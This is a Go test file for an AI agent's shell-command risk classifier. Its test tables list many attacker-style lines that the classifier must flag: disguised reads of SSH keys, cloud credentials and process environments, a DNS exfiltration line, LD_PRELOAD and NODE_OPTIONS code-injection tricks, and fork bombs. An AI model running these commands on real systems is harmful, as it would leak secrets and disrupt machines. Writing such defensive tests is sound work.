package shell

import (
	"strings"
	"testing"

	"github.com/wisp-agent/wisp/internal/shell/rules"
)

// familyCase is a line an attacker would use, the verdict it must get,
// and a text one of its reasons must hold.
type familyCase struct {
	name   string
	line   string
	want   Level
	reason string
}

func runFamily(t *testing.T, cases []familyCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := ClassifyWith(tc.line, testOpts)
			if v.Level != tc.want {
				t.Fatalf("%q: %s, want %s\n%s", tc.line, v.Level, tc.want, v.Text())
			}
			if !strings.Contains(strings.Join(v.Reasons, "\n"), tc.reason) {
				t.Fatalf("%q: no reason with %q\n%s", tc.line, tc.reason, v.Text())
			}
		})
	}
}

// Family 1: where the parser and bash read a line differently.
func TestFamilyParserDifferentials(t *testing.T) {
	runFamily(t, []familyCase{
		{"comment continued", "ls # note \\\ntouch x", Moderate, "backslash-newline"},
		{"comment ends in backslash", "ls # note \\", Moderate, "comment that ends in a backslash"},
		{"continuation in double quotes", "echo \"a\\\n$(id)\"", Moderate, notProvable},
		{"continuation joins words", "ls\\\n -l", Moderate, "backslash-newline"},
		{"here-doc delimiter split", "cat <<EO\\\nF\n$(id)\nEOF\nEOF", Moderate, "backslash-newline"},
		{"here-doc body continued", "cat <<EOF\nhello \\\nworld\nEOF", Moderate, "backslash-newline"},
		{"continued line with a here-doc", "cat <<'EOF' \\\n -n\nx\nEOF", Moderate, "here-document"},
		{"here-doc body expands", "cat <<EOF\n$(id)\nEOF", Moderate, notProvable},
		{"extglob after shopt", "shopt -s extglob; ls @(x|$(id))", Moderate, "extended glob"},
		{"extglob negation", "ls !(x)", Moderate, "extended glob"},
		{"extglob one or more", "ls +(a|b)", Moderate, "extended glob"},
		{"bash -O extglob", "bash -O extglob -c 'ls @(x)'", Moderate, notProvable},
		{"control character", "ls\r -la", Moderate, "control character"},
		{"continuation between words stays safe", "ls \\\n -l", Safe, "only reads"},
	})
}

// Family 2: bash features that evaluate strings at run time.
func TestFamilyEvaluatedStrings(t *testing.T) {
	runFamily(t, []familyCase{
		{"arithmetic expansion subscript", "echo $((a[$(id)]))", Moderate, "arithmetic"},
		{"arithmetic command", "(( x = y + 1 ))", Moderate, "arithmetic"},
		{"let", "let x=1", Moderate, "arithmetic"},
		{"[[ -eq ]] subscript", "[[ 1 -eq 'a[$(id)]' ]]", Dangerous, "subscript"},
		{"[[ -eq ]] literal", "[[ 1 -eq 2 ]]", Moderate, "[[ ]] test"},
		{"test -v subscript", "test -v 'a[$(id)]'", Dangerous, "subscript"},
		{"test -v literal subscript", "test -v 'a[0]'", Moderate, "arithmetic"},
		{"descriptor variable", "ls {fd}>/dev/null", Moderate, "descriptor to a variable"},
		{"declare array from substitution", `declare -a "x=($(id))"`, Moderate, "declare"},
		{"declare -i", "declare -i x=1", Moderate, "declare"},
		{"local", "local x=1", Moderate, "local"},
		{"typeset", "typeset x", Moderate, "typeset"},
		{"readonly", "readonly y=2", Moderate, "readonly"},
		{"export", "export x=1", Moderate, "export"},
		{"BASH_CMDS", "BASH_CMDS[ls]=/tmp/x; ls", Moderate, "subscript"},
		{"BASH_ALIASES", "BASH_ALIASES[ls]=id; ls", Moderate, "subscript"},
		{"expand_aliases", "shopt -s expand_aliases", Moderate, "shopt"},
		{"alias", "alias ls=id", Moderate, "alias"},
		{"hash", "hash -p /tmp/x ls", Dangerous, "hash"},
		{"enable", "enable -n echo", Moderate, "enable"},
		{"set -o", "set -o vi", Moderate, "set"},
		{"parameter expansion", "echo ${NAME:=world}", Moderate, "parameter expansion"},
		{"function call", "f() { ls; }; f", Moderate, "function"},
	})
}

// Family 3: environment that makes trusted programs run code.
func TestFamilyEnvironment(t *testing.T) {
	runFamily(t, []familyCase{
		{"TAR_OPTIONS", "TAR_OPTIONS=--to-command=id tar tf x.tar", Moderate, "TAR_OPTIONS"},
		{"GIT_DIR", "GIT_DIR=/tmp/x git status", Moderate, "GIT_DIR"},
		{"export GIT_COMMON_DIR", "export GIT_COMMON_DIR=/tmp/x; git status", Moderate, "export"},
		{"GIT_CONFIG_*", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log", Dangerous, "GIT_CONFIG"},
		{"GIT_PAGER", "GIT_PAGER=id git log", Moderate, "GIT_PAGER"},
		{"PAGER", "PAGER=id git log", Moderate, "PAGER"},
		{"LESSOPEN", "LESSOPEN='|id %s' less x", Dangerous, "LESSOPEN"},
		{"PYTHONPATH", "PYTHONPATH=. python3 -c 1", Moderate, "PYTHONPATH"},
		{"NODE_OPTIONS", "NODE_OPTIONS='--require ./x.js' node -v", Dangerous, "NODE_OPTIONS"},
		{"LD_PRELOAD", "LD_PRELOAD=/tmp/x.so ls", Dangerous, "LD_PRELOAD"},
		{"BASH_ENV", "BASH_ENV=x ls", Dangerous, "BASH_ENV"},
		{"IFS", "IFS=x ls", Moderate, "IFS"},
		{"PATH", "PATH=/tmp ls", Moderate, "PATH"},
		{"unknown variable", "FOO=bar ls", Moderate, "sets FOO"},
		{"python -m", "python3 -m json.tool data.json", Moderate, notProvable},
		{"go build", "go build ./...", Moderate, notProvable},
		{"go vet", "go vet ./...", Moderate, notProvable},
		{"make", "make -n", Moderate, ""},
		{"compiler include", "gcc -E -include ~/.ssh/id_rsa x.c", Dangerous, "secret"},
		{"cargo", "cargo build", Moderate, ""},
		{"npm", "npm test", Moderate, ""},
		{"locale from a file", "LC_ALL=/tmp/x/loc ls", Moderate, "to a path"},
		{"quoted locale from a file", `LANG='/tmp/x' LC_CTYPE="./x" ls`, Moderate, "to a path"},
		{"time zone from a file", "TZ=/home/u/.ssh/id_rsa date", Moderate, "to a path"},
		{"allowed variable stays safe", "LC_ALL=C TZ=UTC sort names.txt", Safe, "only reads"},
	})
}

// Family 4: secrets read by read-only programs, however the path is
// spelled, and lookups that reach the network.
func TestFamilySecrets(t *testing.T) {
	runFamily(t, []familyCase{
		{"split by quotes", "cat ~/.ss''h/id_rsa", Dangerous, "secret"},
		{"$HOME", "cat $HOME/.aws/credentials", Dangerous, "secret"},
		{"${HOME}", "cat ${HOME}/.aws/credentials", Dangerous, "secret"},
		{"quoted $HOME", `cat "$HOME/.netrc"`, Dangerous, "secret"},
		{"other variable", "cat $X/.aws/credentials", Dangerous, "secret"},
		{"substitution", "cat $(echo ~/.ssh/id_rsa)", Dangerous, "secret"},
		{"glob", "cat ~/.ss?/*", Dangerous, "secret"},
		{"proc root", "cat /proc/self/root/home/u/.ssh/id_rsa", Dangerous, "secret"},
		{"dot-dot", "cat ../../../home/u/.ssh/id_rsa", Dangerous, "secret"},
		{"parent environ", "cat /proc/$PPID/environ", Dangerous, "secret"},
		{"own environ", "cat /proc/self/environ", Dangerous, "secret"},
		{"every environ", "cat /proc/*/environ", Dangerous, "secret"},
		{"cmdline of another", "cat /proc/1/cmdline", Dangerous, "secret"},
		{"ps eww", "ps eww", Dangerous, "environments"},
		{"ps e", "ps e", Dangerous, "environments"},
		{"history", "cat ~/.bash_history", Dangerous, "secret"},
		{"vault token", "tail ~/.vault-token", Dangerous, "secret"},
		{"cargo credentials", "cat ~/.cargo/credentials.toml", Dangerous, "secret"},
		{"another agent", "cat ~/.codex/auth.json", Dangerous, "secret"},
		{"app auth", "cat ~/.config/foo/auth.json", Dangerous, "secret"},
		{"host key", "cat /etc/ssh/ssh_host_rsa_key", Dangerous, "secret"},
		{"another user", "cat /home/bob/.aws/credentials", Dangerous, "secret"},
		{"wisp home", "cat ~/.wisp/config.json", Dangerous, "secret"},
		{"input redirection", "cat < ~/.ssh/id_rsa", Dangerous, "secret"},
		{"cd into secrets", "cd ~/.ssh && cat x", Dangerous, "secret"},
		{"cd home, search it", "cd && grep -r token", Moderate, "home folder"},
		{"cd to the root, search it", "cd / && grep -r token", Moderate, "holds home folders"},
		{"files named in a file", "wc --files0-from=list.txt", Moderate, "named in another file"},
		{"raw device", "head -c 512 /dev/sda", Moderate, "device"},
		{"dotfile in home", "cat ~/.bashrc", Moderate, "home folder"},
		{"maven settings", "cat ~/.m2/settings.xml", Moderate, "home folder"},
		{"list home", "ls ~", Moderate, "home folder"},
		{"search home", "grep -r foo ~/.config", Moderate, "home folder"},
		{"dynamic path", `cat "$f"`, Moderate, notProvable},
		{"ps aux", "ps aux", Moderate, "command lines"},
		{"DNS exfiltration", `getent hosts "$(cat x).example"`, Moderate, notProvable},
		{"getent", "getent hosts example.com", Moderate, "DNS"},
		{"host", "host example.com", Moderate, "network"},
		{"dig", "dig x.example", Moderate, "network"},
		{"nslookup", "nslookup x", Moderate, "network"},
		{"ping", "ping -c1 x", Moderate, "network"},
		{"system file stays safe", "cat /etc/os-release", Safe, "only reads"},
		{"another project under /opt", "grep -r KEY /opt/proj", Moderate, "other projects"},
		{"service data under /var", "cat /var/lib/app/db.conf", Moderate, "other projects"},
		{"a shared temp folder", "cat /tmp/other/notes.txt", Moderate, "other projects"},
		{"a runtime folder", "ls /run/app/state", Moderate, "other projects"},
		{"site data", "cat /srv/www/index.html", Moderate, "other projects"},
	})
}

// WispHome moves wisp's own folder; reading it is reading a secret.
func TestWispHomeOption(t *testing.T) {
	opts := testOpts
	opts.WispHome = "/srv/wisp"
	if v := ClassifyWith("cat /srv/wisp/audit.log", opts); v.Level != Dangerous {
		t.Fatalf("reading WispHome: %s\n%s", v.Level, v.Text())
	}
	if v := ClassifyWith("cat /usr/share/other/x", opts); v.Level != Safe {
		t.Fatalf("reading a system folder: %s\n%s", v.Level, v.Text())
	}
	if v := ClassifyWith("cat /srv/other/x", opts); v.Level != Moderate {
		t.Fatalf("reading another project's folder: %s\n%s", v.Level, v.Text())
	}
}

// Family 7 (the classifier's part): fork bombs and jobs that outlive the
// call.
func TestFamilyForkBomb(t *testing.T) {
	runFamily(t, []familyCase{
		{"classic", ":(){ :|:& };:", Dangerous, "fork bomb"},
		{"named", "bomb(){ bomb|bomb & }; bomb", Dangerous, "fork bomb"},
		{"no pipe", "f(){ f & f; }; f", Dangerous, "fork bomb"},
		{"function keyword", "function x { x|x& }; x", Dangerous, "fork bomb"},
		{"mutual", "a(){ b|b& }; b(){ a|a& }; a", Dangerous, "fork bomb"},
		{"dot name", ".() { .|.& }; .", Dangerous, "fork bomb"},
		{"inside bash -c", "bash -c ':(){ :|:& };:'", Dangerous, "fork bomb"},
		{"multi-line", "f() {\n  f | f &\n}\nf", Dangerous, "fork bomb"},
		{"set -m", "set -m; sleep 1 &", Moderate, "background"},
		{"background", "sleep 100 &", Moderate, "background"},
		{"setsid", "setsid sleep 1", Moderate, notProvable},
		{"nohup", "nohup sleep 1", Moderate, notProvable},
	})
}

// TestRuleExamplesThroughClassifier: every example of the rules table
// means the same to the whole classifier: match lines are safe,
// not_match lines are not.
func TestRuleExamplesThroughClassifier(t *testing.T) {
	tb, err := rules.Load()
	if err != nil {
		t.Fatal(err)
	}
	match, notMatch := tb.Examples()
	for _, l := range match {
		if v := ClassifyWith(l, testOpts); v.Level != Safe {
			t.Errorf("match example %q is %s:\n%s", l, v.Level, v.Text())
		}
	}
	for _, l := range notMatch {
		if v := ClassifyWith(l, testOpts); v.Level == Safe {
			t.Errorf("not_match example %q is safe", l)
		}
	}
}

// TestSafeHasProgramPerPart: in a safe line every simple command is a
// part naming its program, so a differential run can check that bash ran
// nothing else.
func TestSafeHasProgramPerPart(t *testing.T) {
	for _, tc := range lineTable {
		v := ClassifyWith(tc.line, testOpts)
		if v.Level != Safe {
			continue
		}
		for _, p := range v.Parts {
			if p.Program == "" && !strings.HasPrefix(strings.TrimSpace(p.Command), "<") && p.Command != "" {
				t.Errorf("%q: part %q names no program", tc.line, p.Command)
			}
		}
	}
}
